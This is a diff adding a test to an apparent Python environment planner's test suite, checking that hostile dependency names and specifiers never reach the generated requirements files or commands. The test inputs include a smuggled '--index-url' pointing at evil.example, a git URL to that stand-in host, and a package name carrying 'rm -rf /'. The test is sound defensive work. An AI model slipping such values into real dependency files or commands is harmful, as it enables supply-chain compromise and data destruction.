@@ -116,6 +116,28 @@ describe('the strategies', () => {
     expect(plan.gaps).toEqual(['The wrapper installs wheels only; build by hand: flash-attn.']);
   });
 
+  it('never writes anything for pip that is no name, version or address of a rule', () => {
+    const map = mapFiles(FILES);
+    const [entry] = map.entries;
+    if (entry === undefined) throw new Error('no entry');
+    const bad = [
+      { name: 'einops', specifier: '==1\n--index-url=https://evil.example' },
+      { name: 'flash-attn', specifier: ' @ git+https://evil.example/a/b' },
+      { name: '--pre', specifier: '' },
+      { name: 'a b; rm -rf /', specifier: '' },
+    ];
+    const dependencies = bad.map((item) => ({ ...item, imports: [], declared: true, optional: false, evidence: [] }));
+    const needs = bad.map((item) => ({ name: item.name, imports: [], optional: false }));
+    for (const id of ['lumi', 'frontier', 'perlmutter', 'betzy']) {
+      const site = siteOf(id);
+      const hostile = { ...map, dependencies };
+      const plan = planEnvironment({ map: hostile, entry: { ...entry, needs }, site, facts: factsFromProfile(site), rules: RULES });
+      const written = plan.files.filter((file) => /plan\/(requirements|build)/.test(file.path)).map((file) => file.content);
+      expect(written.join('')).not.toMatch(/evil|--pre|rm -rf/);
+      expect(plan.commands.flatMap((command) => command.argv).join(' ')).not.toMatch(/evil|--pre(?!fix)| a b/);
+    }
+  });
+
   it('uv: brings the Python that old versions want', () => {
     const site = makeSite({ packages: { strategy: 'uv' }, host: { kind: 'ssh', hostname: 'c.example' }, backend: 'slurm' });
     const plan = planAt(site, {
